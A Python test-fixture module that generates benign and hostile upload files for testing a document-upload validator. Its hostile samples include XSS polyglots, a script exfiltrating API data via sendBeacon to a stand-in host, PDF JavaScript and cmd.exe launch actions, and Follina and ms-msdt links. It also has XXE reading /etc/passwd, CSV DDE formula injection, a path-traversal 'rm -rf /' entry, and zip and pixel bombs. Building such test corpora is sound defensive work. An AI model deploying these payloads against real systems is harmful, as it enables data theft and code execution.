# One attack per line reads best: long byte literals are not wrapped.
# ruff: noqa: E501
"""Upload test files, generated: good files of every accepted type and a hostile corpus.

Nothing here is a committed binary: each file is built from a few lines of bytes, so a
reader can see exactly what each attack is. The hostile corpus covers what a probe sent
(polyglots starting with ``%PDF-``, a 5-byte ``%PDF-``, a 1 GiB zip-bomb DOCX, macro
documents, ``.exe`` and ``.html`` names, SVG and HTML evidence) and what else an
attacker would try against each format the product accepts.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image

# --- PDF --------------------------------------------------------------------------


def make_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    objects: tuple[bytes, ...] = (),
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    pages: bool = True,
    tail: bytes = b"",
) -> bytes:
    """A small, valid PDF (correct cross-reference table) with the given additions.

    Objects 1-3 are the catalog, the page tree and one page; extra ``objects`` are
    numbered from 4.
    """
    kids = b"[3 0 R] /Count 1" if pages else b"[] /Count 0"
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids " + kids + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + page + b" >>",
    ]
    content = b"BT /F1 12 Tf 72 720 Td (Signed master services agreement) Tj ET"
    body.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    body.extend(objects)
    out = bytearray(header)
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(body) + 1,
        xref,
    )
    return bytes(out) + tail


def pdf_with_compressed_javascript() -> bytes:
    """JavaScript hidden in a compressed object stream: invisible to a byte scan."""
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"5 0 "
    data = zlib.compress(header + hidden)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(data))
        + data
        + b"\nendstream"
    )
    # Object 5 lives inside object stream 6; a cross-reference stream would be needed
    # to say so, so build the file with pypdf-friendly classic xref plus an /OpenAction
    # pointing at it and let the reader resolve it through the object stream entry.
    return _pdf_with_xref_stream(objstm, open_action_ref=5, objstm_number=6)


def _pdf_with_xref_stream(objstm: bytes, *, open_action_ref: int, objstm_number: int) -> bytes:
    body = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction %d 0 R >>" % open_action_ref,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        objstm_number: objstm,
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(body):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body[number] + b"\nendobj\n"
    xref_number = objstm_number + 1
    size = xref_number + 1
    rows = []
    for number in range(size):
        if number == 0:
            rows.append(struct.pack(">BIH", 0, 0, 65535))
        elif number == open_action_ref:
            rows.append(struct.pack(">BIH", 2, objstm_number, 0))
        elif number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number == xref_number:
            rows.append(struct.pack(">BIH", 1, len(out), 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 0))
    table = b"".join(rows)
    xref_offset = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, size, len(table))
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


# --- OOXML ------------------------------------------------------------------------

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def content_types(main_part: str, main_type: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    )


def package_rels(main_part: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOC}" Target="{main_part}"/></Relationships>'
    )


def make_docx(
    *,
    main_type: str = DOCX_MAIN,
    extra_parts: dict[str, bytes | str] | None = None,
    drop: tuple[str, ...] = (),
    text: str = "Statement of work, section 4.2: service level 80/20.",
) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types("word/document.xml", main_type),
        "_rels/.rels": package_rels("word/document.xml"),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
            'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
            f"{text}</w:t></w:r></w:p></w:body></w:document>"
        ),
        **(extra_parts or {}),
    }
    return zip_of({name: data for name, data in parts.items() if name not in drop})


def make_xlsx(*, main_type: str = XLSX_MAIN, extra_parts: dict | None = None) -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": content_types("xl/workbook.xml", main_type),
            "_rels/.rels": package_rels("xl/workbook.xml"),
            "xl/workbook.xml": (
                '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.'
                'openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
            ),
            **(extra_parts or {}),
        }
    )


def zip_of(parts: dict[str, bytes | str]) -> bytes:
    """A zip with a fixed timestamp per entry, so the same parts give the same bytes
    (``writestr`` with a name stamps the current second, which made byte comparisons
    of a file built twice fail across a second boundary)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


@cache
def docx_zip_bomb(expanded: int = 1024**3) -> bytes:
    """A DOCX whose document part inflates to ``expanded`` bytes (1 GiB) from ~1 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN))
        archive.writestr("_rels/.rels", package_rels("word/document.xml"))
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        chunk = b" " * (1024 * 1024)
        with archive.open(info, "w", force_zip64=True) as handle:
            for _ in range(expanded // len(chunk)):
                handle.write(chunk)
    return buffer.getvalue()


@cache
def docx_lying_sizes() -> bytes:
    """A DOCX whose document part declares 100 bytes but inflates to 50 MB."""
    real = zip_of(
        {
            "[Content_Types].xml": content_types("word/document.xml", DOCX_MAIN),
            "_rels/.rels": package_rels("word/document.xml"),
            "word/document.xml": b"<w:document/>" + b" " * (50 * 1024 * 1024),
        }
    )
    data = bytearray(real)
    name = b"word/document.xml"
    local = data.find(b"PK\x03\x04" + b"\x00" * 0)  # first header; find the right one below
    while local != -1:
        name_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + name_len] == name:
            struct.pack_into("<I", data, local + 22, 100)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name:
            struct.pack_into("<I", data, central + 24, 100)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def docx_encrypted_entry() -> bytes:
    """The 'encrypted' flag set on every entry (as a password-protected zip has)."""
    data = bytearray(make_docx())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            flags = struct.unpack_from("<H", data, at + flag_offset)[0]
            struct.pack_into("<H", data, at + flag_offset, flags | 0x1)
            at = data.find(signature, at + 4)
    return bytes(data)


def docx_many_entries(count: int = 5000) -> bytes:
    extra = {f"word/media/p{i}.xml": "<x/>" for i in range(count)}
    return make_docx(extra_parts=extra)


def docx_duplicate_entries() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point here
        archive.writestr("[Content_Types].xml", content_types("word/document.xml", DOCX_MAIN))
        archive.writestr("_rels/.rels", package_rels("word/document.xml"))
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/document.xml", "<w:document>other</w:document>")
    return buffer.getvalue()


def docx_external(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}"><Relationship Id="rId9" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )
    return make_docx(extra_parts={"word/_rels/document.xml.rels": rels})


# --- Images -----------------------------------------------------------------------


def make_png(size: tuple[int, int] = (40, 30), *, mode: str = "RGB", **save: object) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, (200, 30, 30) if mode == "RGB" else 128).save(buffer, "PNG", **save)
    return buffer.getvalue()


def make_jpeg(size: tuple[int, int] = (40, 30), **save: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 30, 200)).save(buffer, "JPEG", **save)
    return buffer.getvalue()


def jpeg_with_gps_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x8825] = {2: (48.0, 51.0, 29.0)}  # GPSInfo: latitude
    return make_jpeg(exif=exif.tobytes())


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A header declaring 10 billion pixels, with a few bytes of (bogus) data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/v1/disputes/\')">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('/api/v1/disputes/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
OLE2_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- The corpus --------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    id: str
    name: str
    build: Callable[[], bytes]
    content_type: str = "application/pdf"  # what the attacker's browser claims

    def data(self) -> bytes:
        return self.build()


def _s(id: str, name: str, build: Callable[[], bytes] | bytes, ct: str = "application/pdf"):
    return Sample(id, name, build if callable(build) else (lambda: build), ct)


HOSTILE: list[Sample] = [
    # PDF polyglots and fakes
    _s("pdf-5-bytes", "contract.pdf", b"%PDF-"),
    _s("pdf-html-polyglot", "invoice.pdf", b"%PDF-1.7\n" + HTML),
    _s("pdf-svg-polyglot", "chart.pdf", b"%PDF-1.4\n" + SVG),
    _s("pdf-js-polyglot", "report.pdf", b"%PDF-1.5\n/*" + JS + b"*/"),
    _s("pdf-header-then-zip", "report.pdf", lambda: b"%PDF-1.4\n" + make_docx()),
    _s("pdf-valid-with-html-tail", "msa.pdf", lambda: make_pdf(tail=HTML)),
    _s("pdf-valid-with-zip-tail", "msa.pdf", lambda: make_pdf(tail=make_docx())),
    _s(
        "pdf-html-in-stream",
        "msa.pdf",
        lambda: make_pdf(objects=(b"<< >>\nstream\n" + HTML + b"\nendstream",)),
    ),
    _s("pdf-truncated", "msa.pdf", lambda: make_pdf()[:200]),
    _s("pdf-garbage-after-header", "msa.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"),
    _s("pdf-no-pages", "msa.pdf", lambda: make_pdf(pages=False)),
    _s(
        "pdf-openaction-js",
        "msa.pdf",
        lambda: make_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ),
    _s(
        "pdf-escaped-name-js",
        "msa.pdf",
        lambda: make_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    ),
    _s(
        "pdf-names-javascript",
        "msa.pdf",
        lambda: make_pdf(
            catalog=b"/Names << /JavaScript 5 0 R >>",
            objects=(b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>",),
        ),
    ),
    _s(
        "pdf-launch-action",
        "msa.pdf",
        lambda: make_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    ),
    _s(
        "pdf-embedded-file",
        "msa.pdf",
        lambda: make_pdf(
            catalog=b"/Names << /EmbeddedFiles 5 0 R >>",
            objects=(b"<< /Names [(evil.exe) << /Type /Filespec /F (evil.exe) >>] >>",),
        ),
    ),
    _s(
        "pdf-page-aa-js",
        "msa.pdf",
        lambda: make_pdf(page=b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
    ),
    _s(
        "pdf-annotation-js",
        "msa.pdf",
        lambda: make_pdf(
            page=b"/Annots [5 0 R]",
            objects=(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (x) >> >>",
            ),
        ),
    ),
    _s(
        "pdf-uri-javascript",
        "msa.pdf",
        lambda: make_pdf(
            page=b"/Annots [5 0 R]",
            objects=(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert(1)) >> >>",
            ),
        ),
    ),
    _s(
        "pdf-submitform",
        "msa.pdf",
        lambda: make_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://x.test/) >>"),
    ),
    _s(
        "pdf-xfa-form",
        "msa.pdf",
        lambda: make_pdf(
            catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>",
            objects=(b"<< /Length 0 >>\nstream\n\nendstream",),
        ),
    ),
    _s(
        "pdf-richmedia",
        "msa.pdf",
        lambda: make_pdf(
            page=b"/Annots [5 0 R]",
            objects=(b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>",),
        ),
    ),
    _s("pdf-js-in-object-stream", "msa.pdf", pdf_with_compressed_javascript),
    _s("pdf-named-exe", "setup.exe", make_pdf, "application/octet-stream"),
    _s("pdf-named-html", "page.html", make_pdf, "text/html"),
    _s("pdf-double-extension-exe", "report.pdf.exe", make_pdf),
    _s("pdf-rtl-override-name", "invoice\u202efdp.exe", make_pdf),
    _s("pdf-drive-letter-name", "C:evil.pdf", make_pdf),
    _s("pdf-hidden-name", ".pdf", make_pdf),
    _s("empty-pdf", "empty.pdf", b""),
    # Office documents
    _s("docx-zip-bomb-1gib", "sow.docx", docx_zip_bomb, "application/msword"),
    _s("docx-lying-sizes", "sow.docx", docx_lying_sizes),
    _s("docx-5000-entries", "sow.docx", docx_many_entries),
    _s("docx-duplicate-entries", "sow.docx", docx_duplicate_entries),
    _s("docx-encrypted-entries", "sow.docx", docx_encrypted_entry),
    _s(
        "docm-renamed-docx",
        "sow.docx",
        lambda: make_docx(main_type=DOCM_MAIN, extra_parts={"word/vbaProject.bin": b"\xcc" * 64}),
    ),
    _s(
        "docm-named-docm",
        "sow.docm",
        lambda: make_docx(main_type=DOCM_MAIN, extra_parts={"word/vbaProject.bin": b"\xcc" * 64}),
    ),
    _s(
        "docx-with-vbaproject",
        "sow.docx",
        lambda: make_docx(extra_parts={"word/vbaProject.bin": b"\xcc" * 64}),
    ),
    _s(
        "docx-with-activex",
        "sow.docx",
        lambda: make_docx(extra_parts={"word/activeX/activeX1.xml": "<ax/>"}),
    ),
    _s(
        "docx-with-ole-bin",
        "sow.docx",
        lambda: make_docx(extra_parts={"word/embeddings/oleObject1.bin": OLE2_DOC}),
    ),
    _s(
        "docx-remote-template",
        "sow.docx",
        lambda: docx_external("attachedTemplate", "https://x.test/evil.dotm"),
    ),
    _s(
        "docx-follina-ole-link",
        "sow.docx",
        lambda: docx_external("oleObject", "mhtml:https://x.test/!x-usc:https://x.test/"),
    ),
    _s(
        "docx-ms-msdt-target",
        "sow.docx",
        lambda: docx_external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    ),
    _s(
        "docx-unc-template",
        "sow.docx",
        lambda: docx_external("attachedTemplate", "\\\\evil.test\\share\\t.dotm"),
    ),
    _s(
        "docx-path-traversal-entry",
        "sow.docx",
        lambda: make_docx(extra_parts={"../../evil.sh": "rm -rf /"}),
    ),
    _s("docx-missing-document", "sow.docx", lambda: make_docx(drop=("word/document.xml",))),
    _s("docx-no-content-types", "sow.docx", lambda: make_docx(drop=("[Content_Types].xml",))),
    _s("zip-with-exe", "sow.docx", lambda: zip_of({"evil.exe": EXE})),
    _s("zip-truncated", "sow.docx", lambda: make_docx()[:60]),
    _s(
        "xlsm-renamed-xlsx",
        "rates.xlsx",
        lambda: make_xlsx(main_type=XLSM_MAIN, extra_parts={"xl/vbaProject.bin": b"\xcc" * 64}),
    ),
    _s(
        "xlsx-macrosheet",
        "rates.xlsx",
        lambda: make_xlsx(extra_parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}),
    ),
    _s("docx-named-xlsx", "rates.xlsx", make_docx),
    _s("ole2-doc-named-docx", "sow.docx", OLE2_DOC),
    _s("rtf-named-docx", "sow.docx", b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}"),
    # Images and markup
    _s("svg-named-svg", "chart.svg", SVG, "image/svg+xml"),
    _s("svg-named-png", "chart.png", SVG, "image/png"),
    _s("html-named-html", "evidence.html", HTML, "text/html"),
    _s("html-named-txt", "evidence.txt", HTML, "text/plain"),
    _s("html-named-png", "screenshot.png", HTML, "image/png"),
    _s(
        "xml-xxe-named-txt",
        "export.txt",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "text/plain",
    ),
    _s("png-decompression-bomb", "screenshot.png", png_bomb, "image/png"),
    _s("png-corrupt", "screenshot.png", lambda: make_png()[:40] + b"\x00" * 80, "image/png"),
    _s("jpeg-header-then-html", "photo.jpg", b"\xff\xd8\xff\xe0" + HTML, "image/jpeg"),
    _s("png-named-jpg", "photo.jpg", make_png, "image/jpeg"),
    _s("gif-named-gif", "anim.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/gif"),
    _s("gif-named-png", "anim.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/png"),
    # Programs and scripts
    _s("exe-named-exe", "setup.exe", EXE, "application/x-msdownload"),
    _s("exe-named-pdf", "invoice.pdf", EXE),
    _s("exe-named-txt", "notes.txt", EXE, "text/plain"),
    _s("elf-named-txt", "notes.txt", ELF, "text/plain"),
    _s("js-named-js", "app.js", JS, "text/javascript"),
    _s("bat-named-bat", "run.bat", b"@echo off\r\npowershell -enc AAAA\r\n", "text/plain"),
    _s("eicar-named-txt-no-scanner-needed", "eicar.com", EICAR, "text/plain"),
    # CSV formula injection and text that is not text
    _s(
        "csv-hyperlink-formula",
        "export.csv",
        b'date,note\n2026-03-01,"=HYPERLINK(""http://x.test"",""y"")"\n',
        "text/csv",
    ),
    _s("csv-dde-formula", "export.csv", b"a;b\n1;=cmd|' /C calc'!A0\n", "text/csv"),
    _s("csv-at-formula", "export.csv", b"a,b\n1,@SUM(1+1)*cmd|' /C calc'!A0\n", "text/csv"),
    _s("csv-plus-formula", "export.csv", b"a\tb\n1\t+1+cmd|' /C calc'!A0\n", "text/csv"),
    _s("txt-utf16-binary-controls", "notes.txt", b"\x00h\x00i\x00\x1b[31m", "text/plain"),
    _s("text-named-pdf", "notes.pdf", b"just some words, no PDF at all\n"),
]


GOOD: list[Sample] = [
    _s("pdf", "Signed MSA (final).pdf", make_pdf),
    _s(
        "pdf-owner-link",
        "msa-links.pdf",
        lambda: make_pdf(
            page=b"/Annots [5 0 R]",
            objects=(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://vendor.example/sow) >> >>",
            ),
        ),
    ),
    _s(
        "docx",
        "sow.docx",
        make_docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    _s(
        "docx-external-hyperlink",
        "sow-links.docx",
        lambda: docx_external("hyperlink", "https://vendor.example/"),
    ),
    _s("xlsx", "rates.xlsx", make_xlsx, "application/vnd.ms-excel"),
    _s("png", "screenshot.png", make_png, "image/png"),
    _s("jpeg", "photo.jpeg", make_jpeg, "image/jpeg"),
    _s(
        "txt",
        "call-notes.txt",
        "Agent said: the queue was 40 deep at 10:00 — résumé of the call.\n".encode(),
        "text/plain",
    ),
    _s(
        "csv",
        "aht-export.csv",
        b"date,aht_seconds,delta\n2026-03-01,412,-12.5\n2026-03-02,398,-14\n",
        "text/csv",
    ),
]
